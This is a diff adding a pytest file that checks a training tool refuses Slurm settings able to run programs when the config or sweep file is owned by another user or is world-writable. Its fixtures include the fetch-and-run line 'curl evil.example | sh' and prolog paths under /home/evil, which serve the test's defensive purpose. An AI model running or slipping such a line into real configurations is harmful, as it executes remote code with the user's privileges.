@@ -1,0 +1,100 @@
+"""A configuration that somebody else may have written submits no shell line and no option that runs a program."""
+
+import os
+
+import pytest
+import yaml
+
+from llama_core.config.run import RunConfig
+from llama_core.errors import ConfigError
+from llama_core.launch.jobs.submission import submit
+from llama_core.records.directory import RunDirectory
+from llama_core.sweep.grid import SweepConfig
+from training_infra import cli
+
+pytestmark = pytest.mark.root
+
+NOBODY = 65534
+RUNS_CODE = {
+    "setup": {"setup": ["curl evil.example | sh"]},
+    "prolog": {"srun_options": {"prolog": "/home/evil/run"}},
+    "task-prolog": {"srun_options": {"task-prolog": "/home/evil/run"}},
+    "container": {"options": {"container": "/home/evil/bundle"}},
+    "pyxis": {"srun_options": {"container-image": "/home/evil/image.sqsh"}},
+}
+HARMLESS = {
+    "partition": "gpu",
+    "options": {"exclusive": True, "reservation": "mine"},
+    "srun_options": {"cpu-bind": "none"},
+}
+
+
+def written(path, slurm):
+    """Write a configuration; anybody reads it."""
+    launch = {"device": "cpu", "launcher": "slurm", "slurm": slurm}
+    path.write_text(yaml.safe_dump({"launch": launch}))
+    return path
+
+
+def theirs(path):
+    os.chown(path, NOBODY, NOBODY)
+    return path
+
+
+def open_to_all(path):
+    path.chmod(0o666)
+    return path
+
+
+@pytest.mark.parametrize("name", RUNS_CODE)
+@pytest.mark.parametrize("given", [theirs, open_to_all])
+def test_what_runs_code_is_refused_in_a_file_of_others(tmp_path, name, given):
+    path = given(written(tmp_path / "run.yaml", RUNS_CODE[name]))
+    with pytest.raises(ConfigError, match=r"run\.yaml .* runs programs as you; read it, and copy the file to use it"):
+        RunConfig.load(path)
+
+
+@pytest.mark.parametrize("name", RUNS_CODE)
+def test_what_runs_code_is_taken_from_an_own_file(tmp_path, name):
+    config = RunConfig.load(written(tmp_path / "run.yaml", RUNS_CODE[name]))
+    assert RUNS_CODE[name].items() <= config.launch.slurm.model_dump().items()
+
+
+def test_other_settings_are_taken_from_a_file_of_others(tmp_path):
+    assert RunConfig.load(theirs(written(tmp_path / "run.yaml", HARMLESS))).launch.slurm.partition == "gpu"
+
+
+def test_the_line_names_the_owner_and_the_settings(tmp_path, capsys):
+    path = theirs(written(tmp_path / "run.yaml", RUNS_CODE["setup"] | RUNS_CODE["prolog"]))
+    assert cli.main(["train", "--config", str(path), "--print-sbatch"]) == 2
+    told = capsys.readouterr().err
+    assert told.startswith(
+        f"error: {path} belongs to nobody, and its launch.slurm.setup, launch.slurm.srun_options.prolog "
+    )
+
+
+@pytest.mark.parametrize(
+    "sweep",
+    [
+        {"base": {"launch": {"slurm": RUNS_CODE["setup"]}}, "grid": {"training.batch_size": [8]}},
+        {"base": {}, "grid": {"launch.slurm.setup": [["curl evil.example | sh"]], "training.batch_size": [8]}},
+        {"base": {}, "grid": {"training.batch_size": [8]}, "include": [{"launch.slurm.setup": ["true"]}]},
+        {"base": "run.yaml", "grid": {"training.batch_size": [8]}},
+    ],
+)
+def test_a_sweep_of_others_is_refused_too(tmp_path, sweep):
+    theirs(written(tmp_path / "run.yaml", RUNS_CODE["setup"]))
+    (tmp_path / "sweep.yaml").write_text(yaml.safe_dump({"name": "theirs", **sweep}))
+    with pytest.raises(ConfigError, match="runs programs as you"):
+        SweepConfig.load(theirs(tmp_path / "sweep.yaml"))
+
+
+def test_a_configuration_that_others_have_put_into_an_own_run_submits_nothing(tmp_path):
+    """After it was prepared, where they may write."""
+    run = RunDirectory(tmp_path / "run")
+    run.create()
+    config = RunConfig.load(written(run.config, RUNS_CODE["setup"]))
+    os.chown(run.config, NOBODY, NOBODY)
+    with pytest.raises(ConfigError, match="runs programs as you"):
+        submit(run, config, 1)
+    assert not run.job.exists()
